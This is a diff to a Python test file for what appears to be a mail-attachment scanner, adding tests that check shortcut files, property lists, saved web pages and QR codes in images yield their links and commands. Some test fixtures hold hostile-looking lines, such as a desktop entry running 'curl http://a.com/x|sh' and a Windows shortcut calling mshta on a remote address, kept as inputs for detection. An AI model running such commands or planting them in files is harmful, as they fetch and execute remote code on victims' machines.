@@ -5,16 +5,15 @@ from __future__ import annotations
 import base64
 import io
 import plistlib
-import struct
-import zlib
 from dataclasses import replace
 
 import PIL.Image
 import pytest
+from fixtures.bombs import claimed
 from fixtures.built_mail import mixed, part, report, source
-from fixtures.small_cases import code, lnk
+from fixtures.small_cases import SMALL, code, lnk
 
-from tqimap_processor.openers import open_artefact
+from tqimap_processor.openers import open_artefact, qr
 from tqimap_processor.walk import walk
 from tqimap_shared.settings import Limits
 
@@ -23,6 +22,7 @@ def _spans(kind: str, data: bytes) -> list[tuple[str, str]]:
     return [(one.where, one.text) for one in open_artefact(kind, source(data)).spans]
 
 
+@pytest.mark.opens("calendar")
 def test_calendar_is_unfolded() -> None:
     """Lines are joined, escapes undone, each property named with its component."""
     data = (
@@ -59,6 +59,7 @@ def test_files_in_calendars_and_cards_are_children() -> None:
     assert open_artefact("vcard", source(broken)).children == ()
 
 
+@pytest.mark.opens("vcard")
 def test_old_card_is_quoted_printable() -> None:
     """Version 2.1 breaks lines softly, and the link is whole again."""
     data = (
@@ -79,6 +80,7 @@ def test_many_properties_stay_within_the_budgets() -> None:
     assert [one.kind for one in opened.problems] == ["truncated-text"]
 
 
+@pytest.mark.opens("url", "desktop", "iqy")
 def test_shortcuts_have_their_keys_as_places() -> None:
     """What a link file leads to, runs or shows is found under its key."""
     data = (
@@ -89,7 +91,32 @@ def test_shortcuts_have_their_keys_as_places() -> None:
         ("URL", "file://evil-place.com/a.js"),
         ("IconFile", "\\\\1.2.3.4\\i.ico"),
     ]
+    assert _spans("desktop", b"[Desktop Entry]\nExec=curl http://a.com/x|sh\n")[1] == (
+        "Exec",
+        "curl http://a.com/x|sh",
+    )
     assert _spans("iqy", b"WEB\n1\nhttp://a.com/q\n")[2] == ("line 3", "http://a.com/q")
+
+
+@pytest.mark.opens("plist")
+def test_property_list_has_paths() -> None:
+    """The strings of a .webloc stand where its keys and numbers lead."""
+    data = plistlib.dumps({"URL": "http://a.com/", "more": ["b.com", 1]}, fmt=plistlib.FMT_BINARY)
+    assert _spans("plist", data) == [("$.URL", "http://a.com/"), ("$.more[0]", "b.com")]
+
+
+@pytest.mark.opens("mhtml")
+def test_saved_page_is_opened() -> None:
+    """A page and what it shows come out of the one file, and its link is found in the page."""
+    page = part(b"<a href=http://in-page.com/x>", "text/html")
+    whole = mixed(page, part(b"GIF89a", "image/gif", "Content-Location: http://img.com/a.gif"))
+    saved = whole[whole.index(b"MIME-Version") :]
+    tree = walk(mixed(part(saved, "application/octet-stream", name="a.mht")), Limits())
+    assert [one.kind for one in tree[1:]] == ["mhtml", "html", "gif"]
+    assert ("part 2 header content-location", "http://img.com/a.gif") in [
+        (one.where, one.text) for one in tree[1].spans
+    ]
+    assert ("a@href", "http://in-page.com/x") in [(one.where, one.text) for one in tree[2].spans]
 
 
 def test_property_list_that_holds_itself_ends() -> None:
@@ -103,6 +130,7 @@ def test_property_list_that_holds_itself_ends() -> None:
     assert [one.kind for one in broken.problems] == ["malformed"]
 
 
+@pytest.mark.opens("lnk")
 def test_windows_shortcut_tells_its_arguments_and_what_is_appended() -> None:
     """The command line has its place, and text behind the structure is found too."""
     data = lnk("..\\cmd.exe", "/c mshta http://some-place.com/x", b"http://appended.com/y ")
@@ -127,6 +155,13 @@ def test_code_in_an_image_is_found_with_its_place() -> None:
     assert (one.value, one.found[0].where) == ("https://qr-place.com/login", "code 1 (QRCode)")
 
 
+@pytest.mark.opens(*qr.KINDS)
+@pytest.mark.parametrize("kind", qr.KINDS)
+def test_code_is_read_in_each_format(kind: str) -> None:
+    """Every kind of image that mail programs show is searched."""
+    assert _spans(kind, SMALL[kind]) == [("code 1 (QRCode)", "http://some-place.com/")]
+
+
 def test_code_on_transparent_ground_is_found() -> None:
     """Transparent pixels are white, as a mail program shows them."""
     image = PIL.Image.open(io.BytesIO(code("https://qr-place.com/")))
@@ -138,19 +173,10 @@ def test_code_on_transparent_ground_is_found() -> None:
     assert _spans("png", out.getvalue()) == [("code 1 (QRCode)", "https://qr-place.com/")]
 
 
-def _png(width: int, height: int) -> bytes:
-    def chunk(name: bytes, data: bytes) -> bytes:
-        body = name + data
-        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
-
-    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
-    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
-
-
 @pytest.mark.parametrize("side", [6_000, 30_000, 2**31 - 1])
 def test_huge_image_is_not_decoded(side: int) -> None:
     """The claimed size alone decides, before a pixel is read."""
-    opened = open_artefact("png", source(_png(side, side)))
+    opened = open_artefact("png", source(claimed("png", side)))
     assert (opened.spans, [one.kind for one in opened.problems]) == ((), ["too-large"])
 
 
